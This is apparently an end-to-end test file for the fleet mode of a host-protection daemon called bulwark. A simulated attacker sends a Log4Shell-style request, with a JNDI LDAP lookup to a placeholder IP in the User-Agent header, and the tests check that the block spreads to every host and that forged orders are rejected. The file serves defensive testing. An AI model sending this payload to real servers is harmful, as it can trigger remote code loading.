/**
 * Fleet mode end to end (issue 12): a real 3-node nats-server JetStream cluster (replicas 3, TLS,
 * per-host nkey users from `bulwark fleet server-config`), three bulwark daemons (hosts a, b, c),
 * an operator namespace running `bulwark fleet …`, and an attacker. Every host is its own network
 * namespace; assertions are on each host's kernel (nft -j list …), acknowledgements and metrics.
 * One cluster and one set of daemons serve every scenario, in order.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createUser, type KeyPair } from '@nats-io/nkeys';
import { parse, stringify } from 'yaml';
import { createTestNet, run, type Host, type TestNet } from './netns.js';
import { BIN, ROOT, startDaemon, type DaemonHandle } from './daemon.js';
import { nftSetElements } from './nft.js';
import { renderServerConfig } from '../../src/fleet/server-config.js';
import { subjects } from '../../src/fleet/subjects.js';
import { parseExposition } from '../unit/metrics/exposition.js';
import type { ChildProcess } from 'node:child_process';

const CLIENT = join(ROOT, 'test', 'e2e', 'tools', 'tcp-client.mjs');
const PROBE = join(ROOT, 'test', 'e2e', 'tools', 'nats-probe.mjs');
const LOG4SHELL = 'GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${jndi:ldap://203.0.113.66/a}\r\n\r\n';

let net: TestNet;
let dir: string;
let ca: string;
const servers: Record<string, { host: Host; conf: string; proc?: ChildProcess; logs: string[] }> = {};
const daemons: Record<string, DaemonHandle> = {};
const configs: Record<string, Record<string, unknown>> = {};
const seeds: Record<string, KeyPair> = {};
let op: Host;
let attacker: Host;
let opConfig: string;
let serverUrls: string[];

async function waitFor<T>(what: string, fn: () => Promise<T | undefined> | T | undefined, timeoutMs = 15_000, everyMs = 100): Promise<T> {
  const end = Date.now() + timeoutMs;
  for (;;) {
    const v = await fn();
    if (v !== undefined) return v;
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, everyMs));
  }
}

const blocked = (h: Host): Promise<string[]> => nftSetElements(h, 'blocked4');
const isolated = async (h: Host): Promise<boolean> => (await nftSetElements(h, 'iso_on')).length > 0;

async function opCli(args: string[], timeoutMs = 60_000): Promise<{ code: number; stdout: string; stderr: string }> {
  return op.exec(process.execPath, [BIN, '--config', opConfig, 'fleet', ...args], { timeoutMs });
}

async function opJson<T>(args: string[]): Promise<T> {
  const r = await opCli([...args, '--json']);
  if (r.code !== 0 && process.env.FLEET_E2E_DEBUG) for (const [n, x] of Object.entries(servers)) console.log(n, x.logs.slice(-30).join('\n'));
  assert.equal(r.code, 0, `bulwark fleet ${args.join(' ')}: ${r.stderr}${r.stdout}`);
  return JSON.parse(r.stdout) as T;
}

async function metric(d: DaemonHandle, name: string, labels: Record<string, string> = {}): Promise<number> {
  const m = await d.http('/metrics');
  const { samples } = parseExposition(m.body + '\n');
  return samples.filter((s) => s.name === name && Object.entries(labels).every(([k, v]) => s.labels[k] === v)).reduce((a, s) => a + s.value, 0);
}

async function attack(): Promise<void> {
  const r = await attacker.exec(process.execPath, [CLIENT, JSON.stringify({ host: net.host('a').ip4, port: 8080, payload: LOG4SHELL })], { timeoutMs: 20_000 });
  assert.equal(r.code, 0, r.stderr);
}

interface ProbeStep {
  op: 'jspub' | 'pub' | 'last';
  subject: string;
  data?: string;
  stream?: string;
}
interface ProbeResult {
  results: { subject: string; ok: boolean; error?: string; data?: string | null; time?: string | null }[];
  errors: string[];
}

/** Runs test/e2e/tools/nats-probe.mjs in the operator namespace as the user of `key`. */
async function probe(key: KeyPair, inbox: string, steps: ProbeStep[]): Promise<ProbeResult> {
  const r = await op.exec(process.execPath, [PROBE, JSON.stringify({ servers: serverUrls, ca, seed: new TextDecoder().decode(key.getSeed()), inbox, steps })], { timeoutMs: 30_000 });
  assert.equal(r.code, 0, r.stderr);
  return JSON.parse(r.stdout.trim().split('\n').pop()!) as ProbeResult;
}

/** Polls the three hosts' blocked sets until each holds `addr`; returns when each first did (ms since start). */
async function propagation(addr: string, timeoutMs = 15_000): Promise<Record<string, number>> {
  const t0 = Date.now();
  const seen: Record<string, number> = {};
  await waitFor(`${addr} in every host's kernel set`, async () => {
    await Promise.all(
      ['a', 'b', 'c'].map(async (h) => {
        if (seen[h] === undefined && (await blocked(net.host(h))).includes(addr)) seen[h] = Date.now() - t0;
      }),
    );
    return Object.keys(seen).length === 3 ? true : undefined;
  }, timeoutMs, 10);
  return seen;
}

function startServer(name: string): void {
  const s = servers[name]!;
  const child = s.host.spawn('nats-server', ['-c', s.conf], { stdio: ['ignore', 'pipe', 'pipe'] });
  s.proc = child;
  const feed = (d: Buffer): void => {
    s.logs.push(...d.toString().split('\n').filter(Boolean));
  };
  child.stdout?.on('data', feed);
  child.stderr?.on('data', feed);
}

async function startHost(name: string, groups: string[], extra: Record<string, unknown> = {}, stateDir?: string): Promise<DaemonHandle> {
  const seedFile = join(dir, `${name}.nk`);
  const cfg: Record<string, unknown> = {
    interfaces: ['eth0'],
    neverBlockSshClients: false,
    fleet: { servers: serverUrls, hostId: name, name: `host-${name}`, groups, nkey: seedFile, tls: { ca }, operators: [seeds.op!.getPublicKey()], heartbeat: '2s' },
    ...extra,
    ...(stateDir ? { stateDir } : {}),
  };
  configs[name] = cfg;
  const d = await startDaemon(net.host(name), { config: cfg, readyTimeoutMs: 30_000 });
  daemons[name] = d;
  return d;
}

async function openssl(args: string[]): Promise<void> {
  const r = await run('openssl', args);
  assert.equal(r.code, 0, `openssl ${args.join(' ')}: ${r.stderr}`);
}

before(async () => {
  net = await createTestNet(['n1', 'n2', 'n3', 'a', 'b', 'c', 'op', 'attacker']);
  op = net.host('op');
  attacker = net.host('attacker');
  dir = mkdtempSync(join(tmpdir(), 'bulwark-fleet-e2e-'));
  const nodes = ['n1', 'n2', 'n3'].map((n) => net.host(n));
  serverUrls = nodes.map((h) => `tls://${h.ip4}:4222`);
  // A test CA and one server certificate for the three servers' addresses.
  ca = join(dir, 'ca.pem');
  await openssl(['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-keyout', join(dir, 'ca.key'), '-out', ca, '-subj', '/CN=bulwark test CA', '-days', '2']);
  await openssl(['req', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-keyout', join(dir, 'srv.key'), '-out', join(dir, 'srv.csr'), '-subj', '/CN=nats']);
  writeFileSync(join(dir, 'san.ext'), `subjectAltName=${nodes.map((h) => `IP:${h.ip4}`).join(',')}\n`);
  await openssl(['x509', '-req', '-in', join(dir, 'srv.csr'), '-CA', ca, '-CAkey', join(dir, 'ca.key'), '-CAcreateserial', '-out', join(dir, 'srv.pem'), '-days', '2', '-extfile', join(dir, 'san.ext')]);
  for (const k of ['op', 'a', 'b', 'c', 'stranger']) {
    seeds[k] = createUser();
    writeFileSync(join(dir, `${k}.nk`), new TextDecoder().decode(seeds[k].getSeed()) + '\n', { mode: 0o600 });
  }
  const groups: Record<string, string[]> = { a: ['web'], b: ['web'], c: ['db'] };
  for (const [i, h] of nodes.entries()) {
    const name = `n${i + 1}`;
    mkdirSync(join(dir, name), { recursive: true });
    const conf = join(dir, `${name}.conf`);
    writeFileSync(
      conf,
      renderServerConfig({
        serverName: name,
        listen: `${h.ip4}:4222`,
        storeDir: join(dir, name),
        cluster: { name: 'bulwark-test', listen: `${h.ip4}:6222`, routes: nodes.filter((o) => o !== h).map((o) => `nats-route://${o.ip4}:6222`) },
        tls: { cert: join(dir, 'srv.pem'), key: join(dir, 'srv.key') },
        hosts: ['a', 'b', 'c'].map((x) => ({ hostId: x, nkey: seeds[x]!.getPublicKey(), groups: groups[x]! })),
        operators: [seeds.op!.getPublicKey()],
      }),
    );
    servers[name] = { host: h, conf, logs: [] };
    startServer(name);
  }
  opConfig = join(dir, 'operator.yaml');
  writeFileSync(opConfig, stringify({ fleet: { servers: serverUrls, nkey: join(dir, 'op.nk'), tls: { ca }, operators: [seeds.op!.getPublicKey()], signingKey: join(dir, 'op.nk') } }));
  // The JetStream meta group needs a leader before streams can be created.
  let last = '';
  await waitFor('fleet setup on the new cluster', async () => {
    const r = await opCli(['setup', '--replicas', '3'], 20_000);
    last = r.stderr + r.stdout;
    return r.code === 0 ? true : undefined;
  }, 60_000, 1000).catch((e: unknown) => {
    throw new Error(`${String(e)}: ${last}\n${Object.entries(servers).map(([n, x]) => `${n}:\n${x.logs.slice(-15).join('\n')}`).join('\n')}`);
  });
  // Host a runs an HTTP server the attacker targets; b's local config turns protection on explicitly (for the lock test).
  net.host('a').spawn(process.execPath, ['-e', "require('http').createServer((q,s)=>{s.end('ok\\n')}).listen(8080)"]);
  await Promise.all([startHost('a', groups.a!), startHost('b', groups.b!, { protection: { enabled: true } }), startHost('c', groups.c!)]);
  for (const d of Object.values(daemons)) await d.waitForLog((e) => e.msg === 'protection enabled', 30_000);
  await waitFor('three hosts in the fleet view', async () => ((await opJson<unknown[]>(['hosts'])).length === 3 ? true : undefined), 30_000, 500);
});

after(async () => {
  for (const d of Object.values(daemons)) await d.destroy().catch(() => undefined);
  for (const s of Object.values(servers)) s.proc?.kill('SIGKILL');
  await net.destroy();
  rmSync(dir, { recursive: true, force: true });
});

test('fleet setup made the streams and buckets with 3 replicas; the fleet view lists every host with protection on', async () => {
  const streams = await opJson<{ stream: string; replicas: number; leader?: string }[]>(['streams']);
  for (const s of streams) assert.equal(s.replicas, 3, JSON.stringify(s));
  const hosts = await opJson<{ hostId: string; name: string; groups: string[]; protection: { enabled: boolean }; version: string; isolation: { isolated: boolean } }[]>(['hosts']);
  assert.deepEqual(hosts.map((h) => [h.hostId, h.name, h.groups.join(','), h.protection.enabled, h.isolation.isolated]), [
    ['a', 'host-a', 'web', true, false],
    ['b', 'host-b', 'web', true, false],
    ['c', 'host-c', 'db', true, false],
  ]);
  const st = await daemons.b!.cli(['status']);
  assert.match(st.stdout, /^fleet:\s+connected as b \(groups web\)/m);
  // The NATS servers are never blocked and reachable while isolated (management endpoints).
  const pol = (await daemons.b!.status()).components as { policy: { managed: boolean } };
  assert.equal(pol.policy.managed, true);
});

test('an attack on host a blocks the attacker on a, b and c; fleet blocked lists it', async () => {
  await attack();
  const seen = await propagation(attacker.ip4);
  const latB = await metric(daemons.b!, 'bulwark_fleet_decision_latency_seconds_sum');
  const cntB = await metric(daemons.b!, 'bulwark_fleet_decision_latency_seconds_count');
  console.log(`# propagation (kernel sets polled every 10 ms): a ${seen.a} ms, b ${seen.b} ms, c ${seen.c} ms after the attack was sent; b's decision→kernel latency ${((latB / Math.max(cntB, 1)) * 1000).toFixed(1)} ms (metric)`);
  assert.ok(cntB >= 1, 'b observed the decision latency');
  const list = await opJson<{ address: string; origins: string[] }[]>(['blocked']);
  assert.deepEqual(list.find((b) => b.address === attacker.ip4)?.origins, ['a']);
  // The alert is also in the events stream, under a's subject, naming the host.
  const ev = await probe(seeds.op!, '_INBOX_OPS', [{ op: 'last', stream: 'BULWARK_EVENTS', subject: 'bulwark.events.a.alert' }]);
  const alert = JSON.parse(ev.results[0]?.data ?? '{}') as { src_ip?: string; host?: { id: string }; alert?: { action: string } };
  assert.deepEqual([alert.src_ip, alert.host?.id, alert.alert?.action], [attacker.ip4, 'a', 'blocked']);
  // b and c record the shared decision as a fleet block.
  const bl = (await daemons.b!.call('blocklist.list')) as { entries: { address: string; source: string; reason: string }[] };
  const e = bl.entries.find((x) => x.address === attacker.ip4);
  assert.equal(e?.source, 'fleet');
  assert.match(e.reason, /from a/);
});

test('fleet unblock from the operator namespace clears all three kernels, acknowledged by each host', async () => {
  const r = await opJson<{ acks: { host: string; ok: boolean; result: { inKernel: boolean } }[]; missing: string[] }>(['unblock', attacker.ip4, '--wait', '10s']);
  assert.deepEqual(r.missing, []);
  assert.deepEqual(r.acks.map((a) => [a.host, a.ok, a.result.inKernel]), [
    ['a', true, false],
    ['b', true, false],
    ['c', true, false],
  ]);
  for (const h of ['a', 'b', 'c']) assert.ok(!(await blocked(net.host(h))).includes(attacker.ip4), `${h} still blocks the attacker`);
  assert.equal((await opJson<unknown[]>(['blocked'])).length, 0);
});

test('fleet isolate b isolates b only, fleet hosts --isolated lists it with the tag; release ends it', async () => {
  const r = await opJson<{ ack: { ok: boolean; host: string; result: { isolated: boolean; tag: string; kernel: { matches: boolean } } } }>(['isolate', 'b', '--for', '1h']);
  assert.equal(r.ack.ok, true);
  assert.equal(r.ack.result.isolated, true);
  assert.equal(r.ack.result.kernel.matches, true, 'kernel read-back in the acknowledgement');
  assert.equal(await isolated(net.host('b')), true);
  assert.equal(await isolated(net.host('a')), false);
  assert.equal(await isolated(net.host('c')), false);
  const iso = await waitFor('b tagged in the fleet view', async () => {
    const l = await opJson<{ hostId: string; isolation: { tag?: string; endsAt?: string } }[]>(['hosts', '--isolated']);
    return l.length === 1 && l[0]!.isolation.tag !== undefined ? l : undefined;
  });
  assert.equal(iso[0]!.hostId, 'b');
  assert.equal(iso[0]!.isolation.tag, 'ISOLATED FROM NETWORK');
  assert.ok(Date.parse(iso[0]!.isolation.endsAt ?? '') > Date.now() + 50 * 60_000);
  const human = await opCli(['hosts', '--isolated']);
  assert.match(human.stdout, /^b\s+host-b\s+web\s+.*ISOLATED FROM NETWORK/m);
  // Isolated, b still talks to the fleet: the release order reaches it and is acknowledged.
  const rel = await opJson<{ ack: { ok: boolean; result: { wasActive: boolean } } }>(['release', 'b']);
  assert.equal(rel.ack.ok, true);
  assert.equal(rel.ack.result.wasActive, true);
  assert.equal(await isolated(net.host('b')), false);
});

test('a policy change applies live (event and log line); a locked setting refuses protection off through the CLI, the control socket and a config reload', async () => {
  const c = daemons.c!;
  assert.equal((await opCli(['policy', 'set', 'host.c', 'protection=false'])).code, 0);
  await c.waitForLog((e) => e.msg === 'fleet policy changed: applied', 15_000);
  await waitFor('c protection off by policy', async () => {
    const st = (await c.call('protection.status')) as { enabled: boolean; offReason?: string };
    return !st.enabled && st.offReason === 'the fleet policy sets protection off' ? true : undefined;
  });
  // The event writer appends through its queue, after the log line: wait for the write.
  await waitFor('the policy applied event in c\'s event file', () => (readFileSync(c.eventsFile, 'utf8').includes('"event":"policy applied"') ? true : undefined));
  assert.ok((await metric(c, 'bulwark_fleet_policy_updates_total', { result: 'applied' })) >= 1);
  assert.equal((await opCli(['policy', 'set', 'host.c', 'protection='])).code, 0);
  await waitFor('c protection back on', async () => (((await c.call('protection.status')) as { enabled: boolean }).enabled ? true : undefined));

  assert.equal((await opCli(['policy', 'set', 'fleet', 'protection=true', 'blockDuration=2h'])).code, 0);
  assert.equal((await opCli(['policy', 'lock', 'fleet', 'protection'])).code, 0);
  const got = await opJson<{ doc: { locks: string[]; settings: { blockDuration: number } } }>(['policy', 'get', 'fleet']);
  assert.deepEqual(got.doc.locks, ['protection']);
  const b = daemons.b!;
  await waitFor('b has the lock', async () => {
    const s = (await b.status()).components as { policy: { locked: Record<string, string>; settings: { blockDuration?: number } } };
    return s.policy.locked.protection === 'fleet' && s.policy.settings.blockDuration === 7_200_000 ? true : undefined;
  });
  const cli = await b.cli(['protection', 'off']);
  assert.notEqual(cli.code, 0);
  assert.match(cli.stderr, /locked by fleet policy "fleet"/);
  await assert.rejects(b.call('protection.off'), (e: Error & { code?: string }) => e.code === 'BULWARK_ERR_POLICY_LOCKED' && /fleet policy "fleet"/.test(e.message));
  const file = b.configFile!;
  const yaml = parse(readFileSync(file, 'utf8')) as Record<string, unknown>;
  writeFileSync(file, stringify({ ...yaml, protection: { enabled: false } }));
  const rl = await b.cli(['reload']);
  assert.notEqual(rl.code, 0);
  assert.match(rl.stderr, /locked by fleet policy "fleet"/);
  assert.equal(((await b.call('protection.status')) as { enabled: boolean }).enabled, true);
  writeFileSync(file, stringify(yaml));
  assert.equal((await b.cli(['reload'])).code, 0, 'a reload that leaves the locked setting alone is accepted');
  assert.equal((await opCli(['policy', 'unlock', 'fleet', 'protection'])).code, 0);
});

test('a host user cannot publish orders, operator decisions or another host\'s decisions (server permissions); unsigned and foreign-signed orders are dropped by the host', async () => {
  const asHost = (steps: ProbeStep[]): Promise<ProbeResult> => probe(seeds.b!, '_INBOX.b', steps);
  const now = Date.now();
  const unblockAsOperator = JSON.stringify({ v: 1, id: 'x1', kind: 'unblock', address: '203.0.113.9', origin: 'operator', reason: 'forged', decidedAt: now, expiresAt: now + 1000 });
  const r = await asHost([
    { op: 'jspub', subject: 'bulwark.orders.a', data: JSON.stringify({ v: 1, id: 'o1', kind: 'isolate', host: 'a', issuedAt: now, expiresAt: now + 60_000, args: {} }) },
    { op: 'pub', subject: 'bulwark.decisions.fleet.203-0-113-9.operator', data: unblockAsOperator },
    { op: 'pub', subject: 'bulwark.decisions.fleet.203-0-113-9.a', data: '{}' },
    // Allowed by the server (its own subject) but a host may not unblock: every host drops it.
    { op: 'jspub', subject: 'bulwark.decisions.fleet.203-0-113-9.b', data: JSON.stringify({ v: 1, id: 'x2', kind: 'unblock', address: '203.0.113.9', origin: 'b', reason: 'forged', decidedAt: now, expiresAt: now + 1000 }) },
  ]);
  assert.deepEqual(r.results.map((x) => x.ok), [false, false, false, true], JSON.stringify(r));
  for (const s of ['bulwark.orders.a', 'bulwark.decisions.fleet.203-0-113-9.operator', 'bulwark.decisions.fleet.203-0-113-9.a']) {
    assert.ok(r.errors.some((e) => /permissions violation/i.test(e) && e.includes(s)), `no permissions violation for ${s}: ${JSON.stringify(r.errors)}`);
  }
  await waitFor('a drops the host-origin unblock', async () => ((await metric(daemons.a!, 'bulwark_fleet_messages_dropped_total', { kind: 'decision', reason: 'not-allowed' })) >= 1 ? true : undefined));

  // The operator user may publish orders, but hosts only act on signed ones from fleet.operators.
  const order = (id: string): string => JSON.stringify({ v: 1, id, kind: 'isolate', host: 'b', issuedAt: Date.now(), expiresAt: Date.now() + 60_000, args: {} });
  const stranger = seeds.stranger!;
  const forged = { body: order('o3'), key: stranger.getPublicKey(), sig: Buffer.from(stranger.sign(new TextEncoder().encode(order('o3')))).toString('base64') };
  const pr = await probe(seeds.op!, '_INBOX_OPS', [
    { op: 'jspub', subject: 'bulwark.orders.b', data: order('o2') },
    { op: 'jspub', subject: 'bulwark.orders.b', data: JSON.stringify(forged) },
  ]);
  assert.deepEqual(pr.results.map((x) => x.ok), [true, true], 'the operator user may publish orders');
  await waitFor('b drops the unsigned and the foreign-signed order', async () => {
    const unsigned = await metric(daemons.b!, 'bulwark_fleet_messages_dropped_total', { kind: 'order', reason: 'unsigned' });
    const unknown = await metric(daemons.b!, 'bulwark_fleet_messages_dropped_total', { kind: 'order', reason: 'unknown-key' });
    return unsigned >= 1 && unknown >= 1 ? true : undefined;
  });
  assert.equal(await isolated(net.host('b')), false);
});

test('host c offline during a block applies it when it comes back', async () => {
  const c = daemons.c!;
  const stateDir = c.stateDir;
  await c.stop();
  await attack();
  await waitFor('a and b block the attacker', async () => ((await blocked(net.host('a'))).includes(attacker.ip4) && (await blocked(net.host('b'))).includes(attacker.ip4) ? true : undefined));
  assert.ok(!(await blocked(net.host('c'))).includes(attacker.ip4), 'c blocked while offline?');
  await c.destroy();
  const back = await startHost('c', ['db'], {}, stateDir);
  await waitFor('c catches up', async () => ((await blocked(net.host('c'))).includes(attacker.ip4) ? true : undefined), 30_000);
  assert.ok((await metric(back, 'bulwark_fleet_decisions_received_total', { result: 'blocked' })) >= 1);
});

test('with the stream leader killed everything still works; the stream is back at 3 current replicas after it returns', async () => {
  const info = await opJson<{ stream: string; leader: string }[]>(['streams']);
  const leader = info.find((s) => s.stream === 'BULWARK_DECISIONS')!.leader;
  assert.ok(servers[leader], `leader ${leader}`);
  servers[leader].proc!.kill('SIGKILL');
  const t0 = Date.now();
  const u = await opJson<{ acks: { host: string; ok: boolean; at: number }[]; missing: string[] }>(['unblock', attacker.ip4, '--wait', '45s']).catch((e: unknown) => {
    // What the hosts' fleet side said meanwhile, for the failure report.
    for (const [n, d] of Object.entries(daemons)) console.log(`--- ${n}\n${d.logs().filter((l) => l.includes('"component":"fleet"')).slice(-15).join('\n')}`);
    throw e;
  });
  assert.deepEqual(u.acks.map((a) => [a.host, a.ok]), [
    ['a', true],
    ['b', true],
    ['c', true],
  ], JSON.stringify(u));
  console.log(`# fleet unblock with the stream leader (${leader}) killed just before: answered by every host in ${Date.now() - t0} ms`);
  if (process.env.FLEET_E2E_DEBUG) {
    // When the operator decided (after reading the fleet view) and when the stream stored it.
    const last = await probe(seeds.op!, '_INBOX_OPS', [{ op: 'last', stream: 'BULWARK_DECISIONS', subject: subjects.decision('fleet', attacker.ip4, 'operator') }]);
    const env = JSON.parse(last.results[0]?.data ?? '{}') as { body?: string };
    const decidedAt = (JSON.parse(env.body ?? '{}') as { decidedAt?: number }).decidedAt ?? NaN;
    console.log(`killed at ${new Date(t0).toISOString()}; decided +${decidedAt - t0} ms, stored +${Date.parse(last.results[0]?.time ?? '') - t0} ms; acks (ms after the kill) ${JSON.stringify(u.acks.map((a) => [a.host, a.at - t0]))}`);
    for (const [n, d] of Object.entries(daemons)) console.log(`--- ${n}\n${d.logs().filter((l) => l.includes('"component":"fleet"')).slice(-8).join('\n')}`);
    for (const [n, x] of Object.entries(servers)) if (n !== leader) console.log(`--- ${n}\n${x.logs.filter((l) => /leader|lost|quorum/i.test(l)).slice(-12).join('\n')}`);
  }
  for (const h of ['a', 'b', 'c']) await waitFor(`${h} unblocked`, async () => (!(await blocked(net.host(h))).includes(attacker.ip4) ? true : undefined));
  await attack();
  const seen = await propagation(attacker.ip4, 30_000);
  console.log(`# propagation with the stream leader down: a ${seen.a} ms, b ${seen.b} ms, c ${seen.c} ms`);
  const after1 = await opJson<{ stream: string; leader: string }[]>(['streams']);
  assert.notEqual(after1.find((s) => s.stream === 'BULWARK_DECISIONS')!.leader, leader);
  startServer(leader);
  await waitFor('3 current replicas again', async () => {
    const s = await opJson<{ stream: string; replicas: number; currentReplicas: number }[]>(['streams']);
    const d = s.find((x) => x.stream === 'BULWARK_DECISIONS')!;
    return d.replicas === 3 && d.currentReplicas === 3 ? true : undefined;
  }, 60_000, 1000);
});
